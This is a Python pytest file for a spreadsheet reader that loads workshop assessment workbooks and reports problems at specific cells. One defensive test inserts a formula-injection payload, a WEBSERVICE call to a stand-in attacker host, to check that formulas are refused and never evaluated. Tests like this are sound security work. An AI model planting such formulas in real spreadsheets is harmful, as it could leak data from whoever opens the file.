"""Reading a workshop workbook (cxm.authoring.workbook_read): each value at its cell, what a
spreadsheet stores (numbers, dates) read as the assessment means it, hostile files refused.

Each test writes a workbook with `workbook_of` (the writer of `cxm new --format xlsx`) for the
tiny framework (conftest.py), changes cells as an assessor would, and reads it back.
"""

from __future__ import annotations

import datetime as dt
import zipfile

import openpyxl
import pytest
from conftest import TODAY, framework_from
from cxm.authoring import workbook_read
from cxm.authoring.new import draft_of
from cxm.authoring.workbook_read import NotAWorkbook, at_cells, read_workbook
from cxm.authoring.workbook_write import workbook_of
from cxm.validate.assessment import validate_assessment

FW = framework_from()


@pytest.fixture
def blank(tmp_path):
    """A new team's workbook as `cxm new --format xlsx` writes it."""
    path = tmp_path / "w.xlsx"
    path.write_bytes(workbook_of(draft_of(FW, "Payments", dt.date(2026, 10, 30), None)))
    return path


@pytest.fixture
def book(blank):
    """The same with its assessor named, as a workshop fills it in first."""
    edit(blank, B5="Dana Lee")
    return blank


def edit(path, sheet="Assessment", **cells):
    wb = openpyxl.load_workbook(path)
    for ref, value in cells.items():
        wb[sheet][ref] = value
    wb.save(path)


def read(path):
    doc, problems = read_workbook(path, "w.xlsx")
    return doc, problems


def problems_at_cells(path):
    doc, problems = read(path)
    _, diags = validate_assessment(doc, FW, TODAY)
    return [(d.sheet, d.cell, d.code) for d in at_cells(problems + diags)]


def test_a_new_teams_workbook_reads_as_every_practice_at_the_lowest_level(blank):
    doc, problems = read(blank)
    assert problems == []
    assert doc.data["team"] == "Payments" and doc.data["date"] == "2026-10-30"
    assert doc.data["assessors"] == ["Your Name"]
    assert doc.data["scores"]["support"] == {
        "self_service": {"level": 1},
        "onboarding": {"level": 1},
    }


def test_an_assessor_left_as_the_workbook_has_it_is_a_placeholder_at_its_cell(blank):
    assert problems_at_cells(blank) == [("Assessment", "B5", "placeholder")]


def test_spreadsheet_values_read_as_the_assessment_means_them(book):
    edit(
        book,
        B2=1984,  # a team named by a number: the spreadsheet stored a number
        B4=dt.datetime(2026, 10, 29),  # a date typed as a date
        B5="Dana Lee; Sam Ortiz\nKim Ode",
        D9=4.0,
        D10="2 · Emerging",
        D11="n/a",
        E11="We sell through no partners.",
        D12=None,  # not assessed
    )
    doc, problems = read(book)
    assert problems == []
    assert doc.data["team"] == "1984" and doc.data["date"] == "2026-10-29"
    assert doc.data["assessors"] == ["Dana Lee", "Sam Ortiz", "Kim Ode"]
    assert doc.data["scores"]["support"] == {
        "self_service": {"level": 4},
        "onboarding": {"level": 2},
    }
    assert doc.data["scores"]["marketing"] == {
        "product_promise": {"not_applicable": "We sell through no partners."}
    }


def test_a_level_that_is_not_a_whole_number_is_an_invalid_value_at_its_cell(book):
    edit(book, D9=3.5, D10="high")
    assert problems_at_cells(book) == [
        ("Assessment", "D9", "invalid-value"),
        ("Assessment", "D10", "invalid-value"),
    ]


def test_targets_metrics_and_actions_are_read_at_their_cells(book):
    edit(book, "Targets", C2="4 · Managed", C3=9)
    edit(book, "Metrics", E2="31", E3=120, G3="In-app survey")
    edit(book, "Actions", A2="Publish a status page", B2="support", F2="in_progress", E2="soon")
    doc, _ = read(book)
    assert doc.data["targets"] == {"support": 4, "marketing": 9}
    assert doc.data["metrics"] == {
        "nps": {"value": 31},
        "csat": {"value": 120, "source": "In-app survey"},
    }
    assert doc.data["actions"] == [
        {
            "title": "Publish a status page",
            "area": "support",
            "due": "soon",
            "status": "in_progress",
        }
    ]
    found = problems_at_cells(book)
    assert ("Targets", "C3", "out-of-range") in found
    assert ("Metrics", "E3", "out-of-range") in found
    assert ("Actions", "E2", "invalid-value") in found


def test_a_formula_is_refused_at_its_cell_and_never_evaluated(book):
    edit(book, D9="=2+2", E10='=WEBSERVICE("http://evil.example")')
    doc, problems = read(book)
    assert [(d.line, d.column, d.code) for d in at_cells(problems)] == [
        (9, 4, "formula"),
        (10, 5, "formula"),
    ]
    assert "self_service" not in doc.data["scores"]["support"]


def test_a_row_twice_and_a_row_without_ids_are_said(book):
    edit(book, H15="support", I15="self_service", D15=5, D16=3)
    assert problems_at_cells(book) == [
        ("Assessment", "I15", "duplicate-key"),
        ("Assessment", "H16", "missing-field"),
    ]


def test_at_cells_names_the_sheet_by_the_line(book):
    edit(book, "Metrics", E2="many")
    [(sheet, cell, code)] = problems_at_cells(book)
    assert (sheet, cell, code) == ("Metrics", "E2", "invalid-value")


def test_a_workbook_too_large_or_unpacking_too_far_is_refused(tmp_path, monkeypatch):
    path = tmp_path / "big.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("a.xml", b" " * 2000)
    monkeypatch.setattr(workbook_read, "MAX_UNPACKED", 1000)
    with pytest.raises(NotAWorkbook, match="unpacks to 2,000 bytes") as caught:
        read_workbook(path, "big.xlsx")
    assert caught.value.code == "file-too-large"
    monkeypatch.setattr(workbook_read, "MAX_FILE", 10)
    with pytest.raises(NotAWorkbook, match="at most 10 are read"):
        read_workbook(path, "big.xlsx")


def test_a_sheet_with_too_many_rows_is_refused(book, monkeypatch):
    monkeypatch.setattr(workbook_read, "MAX_ROWS", 12)
    with pytest.raises(NotAWorkbook, match="sheet 'Assessment' has more than 12 rows"):
        read(book)


def test_a_damaged_workbook_is_refused(tmp_path):
    path = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<not xml")
    with pytest.raises(NotAWorkbook) as caught:
        read_workbook(path, "bad.xlsx")
    assert caught.value.code == "not-a-workbook"
